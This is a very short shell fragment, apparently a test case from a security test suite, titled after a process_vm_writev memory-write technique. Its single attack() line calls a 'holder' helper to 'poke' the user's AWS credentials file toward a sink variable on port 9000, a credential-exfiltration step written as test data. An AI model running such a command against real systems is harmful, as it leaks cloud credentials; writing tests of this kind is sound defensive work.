# SPDX-License-Identifier: Apache-2.0
TITLE="the holder writes it into the sender's memory, process_vm_writev"
attack() { "$PROVOKE/holder" poke "$HOME/.aws/credentials" "$SINK4" 9000; }
